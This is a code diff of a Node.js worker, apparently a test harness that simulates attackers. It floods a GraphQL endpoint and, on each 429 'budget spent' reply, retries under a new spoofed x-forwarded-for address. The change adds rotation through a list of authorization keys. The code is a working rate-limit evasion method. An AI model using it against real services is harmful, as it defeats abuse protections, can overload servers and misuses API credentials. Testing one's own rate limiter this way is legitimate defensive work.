@@ -4,14 +4,14 @@ import { Agent, request } from 'node:http';
 
 const BUDGET_SPENT = 429;
 
-process.once('message', async ({ url, documents, attackers, documentsAtOnce }) => {
+process.once('message', async ({ url, documents, attackers, documentsAtOnce, keys }) => {
   const agent = new Agent({ keepAlive: true });
-  const counts = { served: 0, refused: 0, unavailable: 0, retried: 0, addresses: 0 };
+  const counts = { served: 0, refused: 0, unavailable: 0, retried: 0, identities: 0 };
   let next = 0;
 
-  const send = (address, body) =>
+  const send = (identity, body) =>
     new Promise((resolve, reject) => {
-      const headers = { 'content-type': 'application/json', 'x-forwarded-for': address };
+      const headers = { 'content-type': 'application/json', ...identity };
       const sent = request(`${url}/graphql`, { method: 'POST', agent, headers }, (response) => {
         response.resume().once('end', () => resolve(response.statusCode));
       });
@@ -19,19 +19,23 @@ process.once('message', async ({ url, documents, attackers, documentsAtOnce }) =
     });
 
   const attack = async () => {
-    let address;
-    const move = () => (address = `10.66.${counts.addresses >> 8}.${counts.addresses++ & 255}`);
+    let identity;
+    const move = () => {
+      const nth = counts.identities++;
+      identity = { 'x-forwarded-for': `10.66.${nth >> 8}.${nth & 255}` };
+      if (keys) identity.authorization = keys[nth % keys.length];
+    };
     move();
     const line = async () => {
       while (next < documents.length) {
         const body = JSON.stringify(documents[next++]);
-        const from = address;
+        const from = identity;
         let status = await send(from, body);
-        // Continues from another address when the budget is spent.
+        // Continues from another address, with another key, when the budget is spent.
         if (status === BUDGET_SPENT) {
           counts.retried++;
-          if (from === address) move();
-          status = await send(address, body);
+          if (from === identity) move();
+          status = await send(identity, body);
         }
         if (status === 200) counts.served++;
         else if (status >= 500) counts.unavailable++;
